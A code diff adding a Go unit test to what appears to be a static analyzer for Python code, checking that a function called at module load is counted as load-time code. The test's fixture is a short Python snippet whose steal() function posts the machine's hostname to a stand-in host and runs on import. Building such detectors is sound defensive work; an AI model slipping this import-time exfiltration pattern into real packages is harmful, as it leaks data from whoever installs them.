@@ -256,3 +256,27 @@ func hexs(s string) string {
 	}
 	return b.String()
 }
+
+func TestFunctionsCalledAtLoad(t *testing.T) {
+	src := `import requests, socket
+
+def helper():
+    return 1
+
+def steal():
+    requests.post("https://x.example", data=socket.gethostname())
+
+class Grabber:
+    def run(self):
+        requests.get("https://y.example")
+
+steal()
+`
+	f := analyzeSrc(Python, src)
+	if c, _, _ := findCall(f, "requests.post"); c.InFunc {
+		t.Error("body of a function called at module level must count as module-level code")
+	}
+	if c, _, _ := findCall(f, "requests.get"); !c.InFunc {
+		t.Error("method of a class never used at module level is still inside a function")
+	}
+}
